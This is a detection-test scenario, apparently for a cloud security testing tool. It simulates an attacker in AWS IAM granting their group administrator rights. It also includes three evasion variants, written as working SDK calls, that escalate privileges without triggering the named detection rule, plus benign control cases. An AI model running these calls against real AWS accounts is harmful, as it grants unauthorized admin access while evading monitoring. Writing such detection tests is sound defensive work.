import { AddUserToGroupCommand, AttachGroupPolicyCommand, CreatePolicyCommand, SetDefaultPolicyVersionCommand, } from '@aws-sdk/client-iam';
import { awsCli, defineScenario, iamUser } from 'trailproof';
import { allowAll, readBuckets } from './support/policies.js';
const mallory = iamUser('mallory', { place: 'amsterdam', client: awsCli({ os: 'kali' }) });
const admin = iamUser('admin', { place: 'frankfurt-office', client: awsCli({ os: 'ubuntu' }) });
export default defineScenario({
    title: 'An attacker makes a group administrator',
    techniques: ['T1098.003'],
    detectedBy: ['iam-admin-policy-attached-to-group'],
    world: {
        users: {
            mallory: { attached: ['IAMFullAccess'], groups: ['developers'] },
            admin: { attached: ['IAMFullAccess'] },
        },
        groups: {
            developers: { attached: ['tooling'] },
            administrators: { attached: ['AdministratorAccess'] },
        },
        policies: { tooling: { versions: [allowAll, readBuckets], defaultVersion: 2 } },
    },
    cast: { mallory, admin },
    attack: {
        AdministratorAccess: (play) => play.as(mallory).send(new AttachGroupPolicyCommand({
            GroupName: 'developers',
            PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
        })),
    },
    evasion: {
        'an own policy under a harmless name': {
            reason: 'No bundled rule reads what a policy allows.',
            play: async (play) => {
                const { Policy } = await play.as(mallory).send(new CreatePolicyCommand({
                    PolicyName: 'log-shipping',
                    PolicyDocument: JSON.stringify(allowAll),
                }));
                await play
                    .as(mallory)
                    .send(new AttachGroupPolicyCommand({ GroupName: 'developers', PolicyArn: Policy?.Arn }));
            },
        },
        'an old version of a policy that the group has': {
            reason: 'The permissive version is made the default again; nothing is attached.',
            play: (play) => play.as(mallory).send(new SetDefaultPolicyVersionCommand({
                PolicyArn: `arn:aws:iam::${play.account()}:policy/tooling`,
                VersionId: 'v1',
            })),
        },
        'joining the group of the administrators': {
            reason: 'The user comes to the policy instead of the policy to the group.',
            play: (play) => play
                .as(mallory)
                .send(new AddUserToGroupCommand({ GroupName: 'administrators', UserName: 'mallory' })),
        },
    },
    benign: {
        'a group that is not there': (play) => play.as(admin).send(new AttachGroupPolicyCommand({
            GroupName: 'nowhere',
            PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
        }), { fails: 'NoSuchEntityException' }),
        ReadOnlyAccess: (play) => play.as(admin).send(new AttachGroupPolicyCommand({
            GroupName: 'developers',
            PolicyArn: 'arn:aws:iam::aws:policy/ReadOnlyAccess',
        })),
        'a customer policy of that name': async (play) => {
            const { Policy } = await play.as(admin).send(new CreatePolicyCommand({
                PolicyName: 'AdministratorAccess',
                PolicyDocument: JSON.stringify(readBuckets),
            }));
            await play
                .as(admin)
                .send(new AttachGroupPolicyCommand({ GroupName: 'developers', PolicyArn: Policy?.Arn }));
        },
    },
});
//# sourceMappingURL=iam-admin-policy-to-group.js.map